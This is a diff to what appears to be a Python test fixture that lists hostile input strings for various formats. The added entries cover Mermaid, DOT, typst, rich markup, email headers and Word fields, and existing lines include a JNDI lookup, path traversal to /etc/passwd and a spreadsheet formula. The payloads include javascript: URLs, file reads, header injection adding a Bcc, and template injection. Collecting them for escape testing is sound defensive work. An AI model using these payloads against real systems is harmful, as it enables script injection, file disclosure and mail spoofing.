@@ -116,6 +116,12 @@ HOSTILE = {
     # other readers
     "templates": "$x$ $$y$$ \\(z\\) {{ a }} {% b %} ${jndi:ldap://oak.example} {0} {name} {} %s %(a)s %n #{c} $(d) `e`",
     "paths": "../../etc/passwd C:\\..\\x \\\\oak\\x /dev/null con NUL.txt ~ .hidden a/b",
+    "Mermaid": 'a"]; click n1 "javascript:alert(1)"; %%{init: {"securityLevel": "loose"}}%% end subgraph x --> y["z"]',
+    "DOT": 'a"]; n1 [URL="javascript:alert(1)", label=<<b>x</b>>]; } digraph { // \\N \\G /* c */ {x|y}',
+    "typst": '#eval("1+1") #read("/etc/passwd") #import "@preview/cetz:0.3.1" *b* $x$ `r` <l> @r // c',
+    "rich": "[red]a[/red] [link=javascript:alert(1)]b[/link] [bold [/] :smile: \\[x]",
+    "mail headers": "a\r\nBcc: eve@elm.example\r\nContent-Type: text/html\r\n\r\n<b>b</b>\r\n.\r\n=?utf-8?q?=0D=0ABcc:_eve?=",
+    "word fields": 'MERGEFIELD "x" \\* MERGEFORMAT { IF 1 = 1 "a" } </w:t></w:r><w:instrText>',
     "spreadsheet": '=HYPERLINK("https://oak.example") +1 -1 @SUM(A1) a |',
     "fields and headings": "When: now\nTo: eve@elm.example\nSubject: forged\n\nForged\n======\n\nForged too\n----------",
 }  # fmt: skip
